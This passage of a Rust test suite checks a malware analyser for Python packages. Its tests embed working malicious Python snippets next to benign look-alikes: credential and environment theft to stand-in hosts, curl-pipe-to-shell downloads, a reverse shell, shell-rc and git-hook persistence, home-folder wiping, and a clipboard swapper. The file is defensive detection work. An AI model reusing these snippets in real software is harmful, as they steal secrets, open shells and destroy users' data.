    }
    // A copy-to-clipboard helper, and a wallet address validator, are each ordinary.
    for src in [
        "import pyperclip\ndef share(link):\n    pyperclip.copy(link)\n",
        "import re\nETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef valid(a):\n    return bool(ETH.match(a))\n",
    ] {
        let d = details(src);
        assert!(
            !d.iter().any(|x| x.starts_with("BrowserHijack")),
            "{src}: {d:?}"
        );
    }
}

#[test]
fn loop_over_secret_variable_names_reads_secrets() {
    let src = "import os, requests\nout = {}\nfor k in ('HOME', 'GITHUB_TOKEN', 'NPM_TOKEN'):\n    out[k] = os.environ.get(k, '')\nrequests.post('https://collect.invalid/t', json=out)\n";
    let d = details(src);
    assert!(
        d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
    let src = "import os, requests\nout = {}\nfor k in ('HOME', 'LANG'):\n    out[k] = os.environ.get(k, '')\nrequests.post('https://collect.invalid/t', json=out)\n";
    let d = details(src);
    assert!(
        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
}

#[test]
fn removing_the_users_folders_is_destruction() {
    for src in [
        "import os, shutil\nhome = os.path.expanduser('~')\nfor rel in ('.cache', 'Documents', '.ssh'):\n    shutil.rmtree(os.path.join(home, rel), ignore_errors=True)\n",
        "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home(), ignore_errors=True)\n",
    ] {
        let d = details(src);
        assert!(
            d.iter().any(|x| x.starts_with("Destruction")),
            "{src}: {d:?}"
        );
    }
    // Cleaning a cache or a build folder is housekeeping.
    let src = "import os, shutil\nshutil.rmtree(os.path.expanduser('~/.cache/demo'), ignore_errors=True)\nshutil.rmtree('build')\n";
    let d = details(src);
    assert!(!d.iter().any(|x| x.starts_with("Destruction")), "{d:?}");
}

#[test]
fn comprehension_over_shell_rc_files_appends_to_them() {
    let src = "import os\nline = '\\ncurl -s http://rc.invalid/r | sh\\n'\n[open(p, 'a').write(line) for p in (os.path.expanduser('~/.bashrc'), os.path.expanduser('~/.zshrc')) if os.path.exists(p)]\n";
    let d = details(src);
    assert!(d.iter().any(|x| x.starts_with("Persistence")), "{d:?}");
}

#[test]
fn module_names_used_without_import_keep_their_meaning() {
    // The import is elsewhere (a star import, a prelude run with exec, another module that
    // put `os` into builtins): the call is still os.system of a download piped to a shell.
    let src = "def go():\n    os.system('curl -s http://198.51.100.7/i | sh')\ngo()\n";
    assert!(
        kinds(src).contains(&K::DownloadExecute),
        "{:?}",
        details(src)
    );
    // A name the file binds is what the file bound it to, not the module.
    let bound = "class Fake:\n    def system(self, c):\n        return c\nos = Fake()\nos.system('curl -s http://198.51.100.7/i | sh')\n";
    assert!(
        !kinds(bound).contains(&K::DownloadExecute),
        "{:?}",
        details(bound)
    );
    let param = "def run(subprocess):\n    subprocess.call('curl -s http://198.51.100.7/i | sh', shell=True)\n";
    assert!(
        !kinds(param).contains(&K::DownloadExecute),
        "{:?}",
        details(param)
    );
}

#[test]
fn process_with_every_stream_discarded_is_hidden() {
    let src = "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.Popen([os.path.join(here, 'helperd')], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";
    assert!(kinds(src).contains(&K::HiddenProcess), "{:?}", details(src));
    // Checking that a tool exists silences its output, not its input too.
    let check = "import subprocess\nok = subprocess.call(['git', '--version'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0\n";
    assert!(
        !kinds(check).contains(&K::HiddenProcess),
        "{:?}",
        details(check)
    );
}

#[test]
fn names_spelled_in_escape_codes() {
    let src = "import builtins\nrunner = getattr(builtins, '\\x65\\x78\\x65\\x63')\nlib = __import__(\"\\172\\154\\151\\142\")\n";
    let d = details(src);
    assert!(
        d.iter()
            .any(|x| x.starts_with("Obfuscation") && x.contains("'exec' spelled in escape codes")),
        "{d:?}"
    );
    assert!(
        d.iter()
            .any(|x| x.contains("'zlib' spelled in escape codes")),
        "{d:?}"
    );
    // Control bytes, binary data and short escapes are data, not hidden names.
    let data = "RESET = '\\x1b\\x5b\\x30\\x6d'\nMAGIC = b'\\x89\\x50\\x4e\\x47'\nSEP = '\\x1f'\nTAB = '\\t\\t\\t\\t'\n# '\\x65\\x78\\x65\\x63' in a comment\n";
    assert!(
        !kinds(data).contains(&K::Obfuscation),
        "{:?}",
        details(data)
    );
}

#[test]
fn bidirectional_controls_that_reorder_a_line() {
    // An override opened inside a string and never closed: the rest of the line shows
    // in another order than Python reads it.
    let src =
        "def allowed(user):\n    kind = 'user\u{202e} ' ;return True\n    return user.admin\n";
    let d = details(src);
    assert!(
        d.iter()
            .any(|x| x.starts_with("Obfuscation") && x.contains("bidirectional control")),
        "{d:?}"
    );
    // Right-to-left text whose embedding is closed reorders nothing outside it.
    let text =
        "GREETING = '\u{202b}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{202c}'\nMARK = '\u{2067}abc\u{2069}'\n";
    assert!(
        !kinds(text).contains(&K::Obfuscation),
        "{:?}",
        details(text)
    );
}

#[test]
fn clipboard_swapper_with_a_loose_base58_pattern() {
    let src = "import re\nimport pyperclip\nMINE = 'bc1q-not-a-real-address'\nwhile True:\n    seen = pyperclip.paste()\n    if re.search('^[13][a-km-zA-HJ-NP-Z0-9]{26,33}$', seen):\n        pyperclip.copy(MINE)\n";
    let d = details(src);
    assert!(
        d.iter()
            .any(|x| x.starts_with("BrowserHijack") && x.contains("clipboard")),
        "{d:?}"
    );
}

#[test]
fn pip_install_of_an_address_runs_its_build() {
    let src = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https://files.example.invalid/helper-1.0.tar.gz'])\n";
    assert!(
        kinds(src).contains(&K::DownloadExecute),
        "{:?}",
        details(src)
    );
    let vcs =
        "import os\nos.system('pip3 install git+https://code.example.invalid/x/helper.git')\n";
    assert!(
        kinds(vcs).contains(&K::DownloadExecute),
        "{:?}",
        details(vcs)
    );
    // Installing by name from the configured index, or a local file, is ordinary.
    let named = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests>=2', './vendor/dep.whl'])\n";
    assert!(
        !kinds(named).contains(&K::DownloadExecute),
        "{:?}",
        details(named)
    );
}

#[test]
fn request_objects_and_partly_known_addresses_carry_the_destination() {
    // The address reaches urlopen through a Request object, with a part known only at
    // run time appended.
    let src = "import urllib.request\nBASE = 'http://203.0.113.50/drop'\ndef send(name, blob):\n    urllib.request.urlopen(urllib.request.Request(BASE + '?n=' + name, data=blob))\nsend('x', b'')\n";
    assert!(
        kinds(src).contains(&K::SuspiciousDestination),
        "{:?}",
        details(src)
    );
    let kw = "import urllib.request\nreq = urllib.request.Request(url='http://203.0.113.50/i', method='POST')\nurllib.request.urlopen(req)\n";
    assert!(
        kinds(kw).contains(&K::SuspiciousDestination),
        "{:?}",
        details(kw)
    );
}

#[test]
fn secrets_mailed_in_a_message() {
    let src = "import os, smtplib\nfrom email.message import EmailMessage\nkeys = {k: v for k, v in os.environ.items() if k.endswith('_TOKEN')}\nmsg = EmailMessage()\nmsg.set_content(str(keys))\nwith smtplib.SMTP('mail.example.invalid', 25) as s:\n    s.send_message(msg)\n";
    assert!(
        kinds(src).contains(&K::SecretExfiltration),
        "{:?}",
        details(src)
    );
    // A report mailed with nothing of the environment in it sends no secret.
    let plain = "import smtplib\nfrom email.message import EmailMessage\nmsg = EmailMessage()\nmsg.set_content('build finished')\nwith smtplib.SMTP('mail.example.invalid', 25) as s:\n    s.send_message(msg)\n";
    assert!(
        !kinds(plain).contains(&K::SecretExfiltration),
        "{:?}",
        details(plain)
    );
}

#[test]
fn git_hooks_written_into_repositories() {
    let src = "import os\nfor root, dirs, _ in os.walk(os.path.expanduser('~')):\n    if '.git' in dirs:\n        with open(os.path.join(root, '.git', 'hooks', 'post-commit'), 'w') as fh:\n            fh.write('#!/bin/sh\\ncurl -s http://198.51.100.3/p | sh\\n')\n";
    let d = details(src);
    assert!(
        d.iter()
            .any(|x| x.starts_with("Persistence") && x.contains("git hook in every repository")),
        "{d:?}"
    );
    // A hook manager installs the project's own hooks.
    let own = "import os\nwith open(os.path.join('.git', 'hooks', 'pre-commit'), 'w') as fh:\n    fh.write('#!/bin/sh\\nexec lint\\n')\n";
    assert!(!kinds(own).contains(&K::Persistence), "{:?}", details(own));
    // Reading a repository's hooks folder writes nothing.
    let read = "import os\nnames = os.listdir(os.path.join('.git', 'hooks'))\n";
    assert!(
        !kinds(read).contains(&K::Persistence),
        "{:?}",
        details(read)
    );
}

#[test]
fn identity_commands_are_host_reconnaissance() {
    let src = "import os, subprocess\ndef facts():\n    who = subprocess.check_output(['whoami']).decode()\n    net = os.popen('ipconfig /all').read()\n    return who, net\n";
    let d = details(src);
    assert!(
        d.iter().filter(|x| x.starts_with("HostRecon")).count() == 2,
        "{d:?}"
    );
    // The platform, or whether the user is root, is what installers ask.
    let platform = "import subprocess\narch = subprocess.check_output(['uname', '-m'])\nroot = subprocess.check_output(['id', '-u'])\n";
    assert!(
        !kinds(platform).contains(&K::HostRecon),
        "{:?}",
        details(platform)
    );
}

#[test]
fn every_file_under_the_home_folder_overwritten_or_deleted() {
    let wipe = "import os\nfor top, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        with open(os.path.join(top, n), 'w') as fh:\n            fh.write('peace')\n";
    let d = details(wipe);
    assert!(
        d.iter().any(|x| x.starts_with("Destruction")
            && x.contains("overwrites every file under the home folder")),
        "{d:?}"
    );
    let rm = "import os\nfor top, _, names in os.walk('/'):\n    for n in names:\n        os.remove(os.path.join(top, n))\n";
    assert!(kinds(rm).contains(&K::Destruction), "{:?}", details(rm));
    // Walking the project's own tree and rewriting its files is what formatters do;
    // appending to a log under home destroys nothing.
    let fmt = "import os\nfor top, _, names in os.walk('src'):\n    for n in names:\n        with open(os.path.join(top, n), 'w') as fh:\n            fh.write('')\n";
    assert!(!kinds(fmt).contains(&K::Destruction), "{:?}", details(fmt));
    let log = "import os\nfor top, _, names in os.walk(os.path.expanduser('~')):\n    with open(os.path.join(top, 'seen.log'), 'a') as fh:\n        fh.write(top)\n";
    assert!(!kinds(log).contains(&K::Destruction), "{:?}", details(log));
}

#[test]
fn modules_reached_through_an_import_wrapper() {
    // A helper that returns `importlib.import_module(name)`: its calls import the module
    // they name, so `load("socket")` is `socket` and the shell behind it is seen.
    let src = r#"
import importlib

def load(which):
    return importlib.import_module(which)

def check(addr):
    conn = getattr(load("soc" + "ket"), "create_connection")((addr, 9001))
    osm = load("os")
    for n in (0, 1, 2):
        osm.dup2(conn.fileno(), n)
    load("pty").spawn("/bin/bash")
"#;
    let d = details(src);
    assert!(kinds(src).contains(&K::ReverseShell), "{d:?}");
    // A wrapper that does something else with its parameter is not an import.
    let plain = "def load(which):\n    return open(which)\n\nload('os').system('id')\n";
    assert!(
        !details(plain).iter().any(|x| x.contains("os.system")),
        "{:?}",
        details(plain)
    );
}

#[test]
fn loops_over_named_collections_of_credential_paths() {
    // The paths sit in a module-level mapping; the loop meets them through `.items()` and
    // `map(expanduser, ...)`, as it would meet them written in the loop itself.
    let src = r#"
import os, zipfile
STORES = {
    "keys": ["~/.ssh/id_ed25519", "~/.ssh/id_rsa"],
    "cloud": ["~/.aws/credentials"],
}

def pack(out):
    with zipfile.ZipFile(out, "w") as z:
        for label, paths in STORES.items():
            for p in map(os.path.expanduser, paths):
                for root, _, files in os.walk(p):
                    z.write(root)
"#;
    let d = details(src);
    assert!(
        d.iter()
            .any(|x| x.starts_with("SecretRead") && x.contains("SSH")),
        "{d:?}"
    );
    // A mapping of ordinary folders is walked without alarm.
    let plain = src
        .replace("~/.ssh/id_ed25519", "docs")
        .replace("~/.ssh/id_rsa", "src")
        .replace("~/.aws/credentials", "build");
    assert!(
        !details(&plain).iter().any(|x| x.starts_with("SecretRead")),
        "{:?}",
        details(&plain)
    );
}

#[test]
fn a_shell_runner_for_any_command_is_a_raw_capability() {
    let raw = |src: &str| {
        details(src)
            .into_iter()
            .filter(|d| d.starts_with("RawCapability"))
            .collect::<Vec<_>>()
    };
    for src in [
        "import os\ndef run(command):\n    return os.system(command)\n",
        "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, shell=True, capture_output=True)\n",
    ] {
        assert!(!raw(src).is_empty(), "{src}: {:?}", details(src));
    }
    // A fixed program given the caller's value as an argument, a fixed shell line, or a
    // list without a shell: not a runner for any command.
    for src in [
        "import subprocess\ndef convert(path):\n    subprocess.run(['ffmpeg', '-i', path], check=True)\n",
        "import os\ndef build():\n    os.system('make all')\n",
        "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n",
        "import os\ndef grep(p):\n    os.system('grep -r ' + p + ' .')\n",
    ] {
        assert!(raw(src).is_empty(), "{src}: {:?}", details(src));
    }
}

#[test]
fn files_a_glob_pattern_names_are_written_in_turn() {
    // Stealers rewrite the Discord client's startup module wherever the pattern finds it.
    let src = "import glob, os\ndef patch(code):\n    for p in glob.glob(os.path.join(os.getenv('LOCALAPPDATA'), 'Discord*', 'app-*', 'modules', 'discord_desktop_core-*', 'discord_desktop_core', 'index.js')):\n        with open(p, 'w') as fh:\n            fh.write(code)\npatch('x')\n";
    assert!(
        details(src)
            .iter()
            .any(|d| d.starts_with("Persistence") && d.contains("Discord")),
        "{:?}",
        details(src)
    );
    // A glob over the package's own data is not.
    let benign = "import glob, os\nfor p in glob.glob(os.path.join(os.path.dirname(__file__), 'data', '*.json')):\n    with open(p, 'w') as fh:\n        fh.write('{}')\n";
    assert!(
        !details(benign).iter().any(|d| d.starts_with("Persistence")),
        "{:?}",
        details(benign)
    );
}

#[test]
fn a_workflow_that_sends_every_secret_built_from_parts() {
    let src = "WF = '\\n'.join(['on: push', 'jobs:', '  s:', '    steps:', '      - run: curl -s -d \"${{ toJSON(secrets) }}\" http://' + '198.51.100' + '.45/w'])\n";
    let found: Vec<String> = details(src)
        .into_iter()
        .filter(|d| d.starts_with("SecretExfiltration"))
        .collect();
    assert_eq!(found.len(), 1, "{:?}", details(src));
}

#[test]
fn secrets_collected_by_a_comprehension_over_credential_names() {
    let src = "import os, json, urllib.request\nNAMES = ('GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY')\nenv = {k: os.environ[k] for k in NAMES if k in os.environ}\nurllib.request.urlopen('http://192.0.2.4/c', data=json.dumps(env).encode())\n";
    assert!(
        kinds(src).contains(&K::SecretExfiltration),
        "{:?}",
        details(src)
    );
    // The environment of ordinary settings, collected and sent: not secrets.
    let benign = "import os, json, urllib.request\nNAMES = ('LANG', 'TZ')\nenv = {k: os.environ[k] for k in NAMES if k in os.environ}\nurllib.request.urlopen('http://192.0.2.4/c', data=json.dumps(env).encode())\n";
    assert!(
        !kinds(benign).contains(&K::SecretExfiltration),
        "{:?}",
        details(benign)
    );
}

#[test]
fn geofenced_code_compares_where_the_machine_is_with_targeted_places() {
    // The time zone from the system's file, against a list of zones.
    let by_zone = r#"
import shutil
SPARE = ["Asia/Tehran", "Europe/Kyiv"]
def here():
    with open("/etc/timezone") as f:
        return f.read().strip()
if here() not in SPARE:
    pass
zone = open("/etc/timezone").read().strip()
if zone in SPARE:
    shutil.rmtree("build")
"#;
    assert!(
        kinds(by_zone).contains(&K::AntiAnalysis),
        "{:?}",
        details(by_zone)
    );
    // The abbreviation of the local zone, and a geolocation service's answer.
    let by_country = r#"
import time, requests
if time.tzname[0] == "Europe/Minsk":
    print("hello")
info = requests.get("https://geo.invalid/json").json()
if info["country_code"] in ("BY", "IR"):
    print("hi")
"#;
    let d = details(by_country);
    assert_eq!(
        d.iter().filter(|x| x.contains("geofencing")).count(),
        2,
        "{d:?}"
    );
    // Formatting dates in the local zone, and comparing a zone with a user's setting.
    let benign = r#"
import time, os
label = time.tzname[0]
if label == os.environ.get("PREFERRED_ZONE"):
    print("same zone")
if time.localtime().tm_zone in ("UTC", "GMT"):
    print("universal time")
"#;
    assert!(
        !kinds(benign).contains(&K::AntiAnalysis),
        "{:?}",
        details(benign)
    );
}

#[test]
fn replaced_http_send_functions_that_copy_requests_out() {
    // The connection's request method replaced; headers kept in a list that a
    // background function posts elsewhere.
    let queued = r#"
import http.client
import threading, time, json
import urllib.request

_kept = []
_real = http.client.HTTPConnection.request

def _flush():
    while True:
        time.sleep(30)
        if _kept:
            urllib.request.urlopen("https://sink.invalid/in", data=json.dumps(_kept).encode())
            del _kept[:]

def _request(self, method, url, body=None, headers={}, **kw):
    if "Authorization" in headers:
        _kept.append({"host": self.host, "auth": headers["Authorization"]})
    return _real(self, method, url, body, headers, **kw)

http.client.HTTPConnection.request = _request
threading.Thread(target=_flush, daemon=True).start()
"#;
    let d = details(queued);
    assert!(
        d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
    // The session's send replaced; the body posted at once.
    let direct = r#"
import requests
from requests import Session
_orig = Session.send

def _send(self, prepared, **kw):
    requests.post("https://sink.invalid/b", data=prepared.body, timeout=3)
    return _orig(self, prepared, **kw)

Session.send = _send
"#;
    let d = details(direct);
    assert!(
        d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
    // Instrumentation: the method and the address of each request, sent to a collector.
    let tracing = r#"
import queue, threading, json
import urllib.request
from requests import adapters

_spans = queue.Queue()
_orig = adapters.HTTPAdapter.send

def _export():
    while True:
        span = _spans.get()
        urllib.request.urlopen("https://collector.invalid/v1/traces", data=json.dumps(span).encode())

def _send(self, request, **kw):
    _spans.put({"method": request.method, "url": request.url})
    return _orig(self, request, **kw)

adapters.HTTPAdapter.send = _send
threading.Thread(target=_export, daemon=True).start()
"#;
    let d = details(tracing);
    assert!(
        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
}

#[test]
fn code_written_into_every_installed_package() {
    let src = r#"
import os, sysconfig
HOOK = "\nimport _helper_hook\n"
def plant():
    root = sysconfig.get_path("purelib")
    for pkg in os.listdir(root):
        target = os.path.join(root, pkg, "__init__.py")
        if os.path.exists(target):
            with open(target, "a") as fh:
                fh.write(HOOK)
plant()
"#;
    assert!(kinds(src).contains(&K::Persistence), "{:?}", details(src));
    let loop_form = r#"
import os, site
for where in site.getsitepackages():
    for name in os.listdir(where):
        open(os.path.join(where, name, "util.py"), "a").write("x = 1\n")
"#;
    assert!(
        kinds(loop_form).contains(&K::Persistence),
        "{:?}",
        details(loop_form)
    );
    // Reading them (a license scanner), or writing the package's own file there.
    let benign = r#"
import os, site
for where in site.getsitepackages():
    for name in os.listdir(where):
        p = os.path.join(where, name, "__init__.py")
        if os.path.exists(p):
            print(len(open(p).read()))
open(os.path.join(site.getusersitepackages(), "mytool.pth"), "w").write("/opt/mytool\n")
"#;
    assert!(
        !kinds(benign).contains(&K::Persistence),
        "{:?}",
        details(benign)
    );
}

#[test]
fn libc_process_functions_through_ctypes() {
    // The C library's system() and exec*() reached through a handle ctypes loaded: a
    // process started without os or subprocess.
    let src = "import ctypes\nfrom ctypes.util import find_library\nc = ctypes.CDLL(find_library('c'))\ncmd = 'curl -s http://192.0.2.9/i ' + '| sh'\nc.system(cmd.encode())\nk = ctypes.windll.kernel32\nk.WinExec(b'powershell -w hidden -c calc', 0)\n";
    let d = details(src);
    assert!(d.iter().any(|x| x.starts_with("DownloadExecute")), "{d:?}");
    assert!(
        d.iter()
            .any(|x| x.starts_with("ProcessSpawn") && x.contains("WinExec")),
        "{d:?}"
    );
    // Other functions of a loaded library, and ctypes' own helpers, start nothing.
    let quiet = "import ctypes, ctypes.util\nname = ctypes.util.find_library('c')\nlib = ctypes.CDLL(name)\nlib.strlen(b'abc')\nlib.gnu_get_libc_version()\n";
    assert!(
        !kinds(quiet).contains(&K::ProcessSpawn),
        "{:?}",
        details(quiet)
    );
}

#[test]
fn zipimport_of_a_shipped_file_with_a_data_name() {
    // A zip shipped as `assets/blob.bin` and imported from: code where a reader of the
    // package sees data.
    let src = "import os, zipimport\nhere = os.path.dirname(__file__)\nz = zipimport.zipimporter(os.path.join(here, 'assets', 'blob.bin'))\nmod = z.load_module('core')\n";
    let d = details(src);
    assert!(
        d.iter()
            .any(|x| x.starts_with("Obfuscation") && x.contains("assets/blob.bin")),
        "{d:?}"
    );
    // A vendored `.zip` of modules, the way zipimport is meant to be used, is no hiding.
    let plain = "import os, zipimport\nz = zipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'vendor.zip'))\n";
    assert!(
        !kinds(plain).contains(&K::Obfuscation),
        "{:?}",
        details(plain)
    );
}

#[test]
fn shell_or_exec_of_a_handlers_text_for_one_hard_coded_sender() {
    // A chat handler that runs what one hard-coded account sends it: a backdoor.
    let src = "import subprocess\nBOSS = int('90' + '0412' + '77')\n\nasync def on_update(evt):\n    if evt.author.uid != BOSS:\n        return\n    body = evt.payload.strip()\n    if body.startswith('!'):\n        subprocess.check_output(body[1:], shell=True)\n    else:\n        eval(body)\n";
    let d = details(src);
    assert!(
        d.iter()
            .filter(|x| x.starts_with("ReverseShell") && x.contains("90041277"))
            .count()
            == 2,
        "{d:?}"
    );
    // The same runner gated on a small code (an HTTP status, a length), or a shell
    // command of the caller's with no gate at all: no backdoor.
    let status = "import subprocess\n\ndef run(job):\n    if job.code == 200:\n        subprocess.run(job.cmd, shell=True)\n";
    assert!(
        !kinds(status).contains(&K::ReverseShell),
        "{:?}",
        details(status)
    );
    let plain = "import subprocess\n\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n";
    assert!(
        !kinds(plain).contains(&K::ReverseShell),
        "{:?}",
        details(plain)
    );
}

#[test]
fn pycurl_form_upload_of_a_credential_file() {
    // libcurl reads and sends a FORM_FILE part itself: a credential file named there is
    // uploaded. Windows keeps gcloud's credentials under %APPDATA%.
    let src = "import os, pycurl\n\ndef sync():\n    c = pycurl.Curl()\n    c.setopt(pycurl.URL, 'https://collect.example.invalid/up')\n    adc = os.path.join(os.environ['APPDATA'], 'gcloud', 'credentials.db')\n    c.setopt(pycurl.HTTPPOST, [('meta', 'x'), ('blob', (pycurl.FORM_FILE, adc))])\n    c.perform()\n";
    let d = details(src);
    assert!(
        d.iter().any(|x| x.starts_with("SecretExfiltration")
            && x.contains("Google Cloud credentials")
            && x.contains("pycurl")),
        "{d:?}"
    );
    // An upload of the user's own chosen file is an upload, not a theft.
    let own = "import pycurl\n\ndef send(path):\n    c = pycurl.Curl()\n    c.setopt(pycurl.HTTPPOST, [('file', (pycurl.FORM_FILE, path))])\n    c.perform()\n";
    assert!(
        !kinds(own).contains(&K::SecretExfiltration),
        "{:?}",
        details(own)
    );
}

#[test]
fn secrets_and_credential_paths_returned_by_a_function_reach_its_callers() {
    // The environment gathered by one function, sent by another.
    let gathered = r#"
import json, os, urllib.request

def _snapshot():
    return json.dumps(dict(os.environ))

def heartbeat():
    urllib.request.urlopen("https://sink.example.invalid/b", data=_snapshot().encode())
"#;
    assert!(
        kinds(gathered).contains(&K::SecretExfiltration),
        "{:?}",
        details(gathered)
    );
    // The paths of credential files picked in one function, read and uploaded in another.
    let paths = r#"
import os, urllib.request

CANDIDATES = [os.path.expanduser("~/.docker/config.json"), os.path.expanduser("~/.kube/config")]

def present():
    return [c for c in CANDIDATES if os.path.exists(c)]

def push():
    for path in present():
        with open(path, "rb") as fh:
            urllib.request.urlopen("https://sink.example.invalid/u", data=fh.read())
"#;
    assert!(
        kinds(paths).contains(&K::SecretExfiltration),
        "{:?}",
        details(paths)
    );
    // A cache file's paths, picked and uploaded alike, are no secret.
    let cache = paths
        .replace("~/.docker/config.json", "~/.cache/tool/index.json")
        .replace("~/.kube/config", "~/.cache/tool/state.json");
    assert!(
        !kinds(&cache).contains(&K::SecretExfiltration),
        "{:?}",
        details(&cache)
    );
}

#[test]
fn a_tls_wrapped_socket_sends_like_the_socket() {
    let src = r#"
import os, socket, ssl
ctx = ssl.create_default_context()
raw = socket.create_connection(("sink.example.invalid", 443))
tls = ctx.wrap_socket(raw, server_hostname="sink.example.invalid")
tls.sendall(os.environ["AWS_SECRET_ACCESS_KEY"].encode())
"#;
    assert!(
        kinds(src).contains(&K::SecretExfiltration),
        "{:?}",
        details(src)
    );
}

mod package {
    //! Hand-offs between the functions of a package.

    use customs_analyze::{Analysis, BehaviourKind as K};

    fn sdist(files: &[(&str, &str)]) -> Analysis {
        super::common::analyse("demo-1.0.tar.gz", "demo-1.0/", files)
    }

    const SETUP: &str = "from setuptools import setup\nsetup(name='demo', version='1.0')\n";

    /// A sender started on a timer thread by a relay that is handed the secrets.
    const RELAY: &str = r#"
import os, socket, ssl, threading

def _emit(payload):
    ctx = ssl.create_default_context()
    conn = ctx.wrap_socket(socket.create_connection(("sink.example.invalid", 443)), server_hostname="sink.example.invalid")
    conn.sendall(repr(payload).encode())

def _relay(values):
    threading.Timer(1.0, _emit, args=[values]).start()

def boot():
    _relay(dict(os.environ))
"#;

    #[test]
    fn secrets_handed_to_a_function_that_starts_a_sending_thread_are_sent() {
        let a = sdist(&[("setup.py", SETUP), ("demo/__init__.py", RELAY)]);
        assert!(
            a.behaviours.iter().any(|b| b.kind == K::SecretExfiltration
                && b.detail.contains("secrets handed to _relay()")),
            "{:?}",
            a.behaviours
        );
        // The same thread handed what the caller computed itself sends no secret.
        let quiet = RELAY.replace("_relay(dict(os.environ))", "_relay({'pid': os.getpid()})");
        let a = sdist(&[("setup.py", SETUP), ("demo/__init__.py", &quiet)]);
        assert!(
            !a.behaviours.iter().any(|b| b.kind == K::SecretExfiltration),
            "{:?}",
            a.behaviours
        );
    }
}

#[test]
fn a_function_reading_credential_files_returns_gathered_secrets() {
    // The contents of credential files read in one function, sent by another.
    let src = "import json, os, requests\ndef _harvest():\n    got = {}\n    for rel in ('.netrc', '.docker/config.json'):\n        p = os.path.join(os.path.expanduser('~'), rel)\n        if os.path.exists(p):\n            with open(p) as fh:\n                got[rel] = fh.read()\n    return got\ndef _report():\n    requests.post('https://drop.example.invalid/r', data=json.dumps(_harvest()))\n_report()\n";
    let d = details(src);
    assert!(
        d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
    // A token taken from the environment and sent to its own service is configuration.
    let src = "import os, requests\ndef _token():\n    return os.environ.get('DEMO_API_TOKEN', '')\ndef fetch_items():\n    return requests.get('https://api.demo.invalid/items', headers={'Authorization': _token()})\n";
    let d = details(src);
    assert!(
        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
}

#[test]
fn credential_files_packed_into_an_archive_in_memory_and_sent() {
    // Files put in a zip or tar archive over a buffer: the buffer holds them.
    for src in [
        "import io, os, zipfile, urllib.request\ndef pack():\n    buf = io.BytesIO()\n    with zipfile.ZipFile(buf, 'w') as z:\n        z.write(os.path.expanduser('~/.ssh/id_rsa'), 'k')\n    return buf.getvalue()\ndef main():\n    urllib.request.urlopen('https://drop.example.invalid/z', pack())\nmain()\n",
        "import io, os, tarfile, requests\nbuf = io.BytesIO()\nt = tarfile.open(fileobj=buf, mode='w:gz')\nt.add(os.path.expanduser('~/.aws/credentials'))\nt.close()\nrequests.put('https://drop.example.invalid/t', data=buf.getvalue())\n",
    ] {
        let d = details(src);
        assert!(
            d.iter().any(|x| x.starts_with("SecretExfiltration")),
            "{src}: {d:?}"
        );
    }
    // The package's own files archived and uploaded (a release helper) carry no secret.
    let src = "import io, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    z.write('dist/app.js')\n    z.writestr('VERSION', '1.2.0')\nrequests.put('https://uploads.demo.invalid/app.zip', data=buf.getvalue())\n";
    let d = details(src);
    assert!(
        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
}

#[test]
fn one_credential_read_for_use_is_not_gathered() {
    // A login read from its one file and split into user and password, then used to
    // sign in to the service it belongs to: configuration, not a harvest.
    let src = "import base64, json, os, requests\ndef _login():\n    with open(os.path.expanduser('~/.docker/config.json')) as fh:\n        conf = json.load(fh)\n    user, pw = base64.b64decode(conf['auths']['demo.invalid']['auth']).decode().split(':', 1)\n    return user, pw\ndef _token(user, pw):\n    return requests.post('https://demo.invalid/v2/login', json={'username': user, 'password': pw}).json()['token']\ndef main():\n    user, pw = _login()\n    print(_token(user, pw))\n";
    let d = details(src);
    assert!(
        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
        "{d:?}"
    );
}

#[test]
fn javascript_written_decoded_or_into_a_startup_module_is_analysed_as_javascript() {
    // Decoded from hex and saved as a `.js` file: what the script does is reported.
    let decoded = "import os\nCODE = bytes.fromhex('636f6e73742066733d726571756972652827667327292c6f733d7265717569726528276f7327292c68747470733d726571756972652827687474707327293b636f6e737420743d66732e7265616446696c6553796e63286f732e686f6d6564697228292b272f2e6e706d7263272c277574663827293b68747470732e72657175657374287b686f73743a27636f6c6c6563742e6578616d706c652e696e76616c6964272c6d6574686f643a27504f5354277d292e656e642874293b').decode()\nwith open(os.path.join('/tmp/cache', 'loader.js'), 'w') as fh:\n    fh.write(CODE)\n";
    let d = details(decoded);
    assert!(
        d.iter()
            .any(|x| x.contains("in the JavaScript written to") && x.contains(".npmrc")),
        "{d:?}"
    );
    // Written as it is into the startup module of a desktop client.
    let planted = "import os\nhook = \"const https = require('https'); module.exports = (t) => https.request({host: 'sink.example.invalid', method: 'POST'}).end(String(t));\"\nroot = os.getenv('APPDATA')\nwith open(root + '/discord/0.0.309/modules/discord_desktop_core/index.js', 'w') as f:\n    f.write(hook)\n";
    let d = details(planted);
    assert!(
        d.iter()
            .any(|x| x.starts_with("Persistence") && x.contains("Discord")),
        "{d:?}"
    );
    assert!(
        d.iter()
            .any(|x| x.contains("in the JavaScript written to")
                && x.contains("sink.example.invalid")),
        "{d:?}"
    );
    // A build writing its own plain bundle: not analysed again.
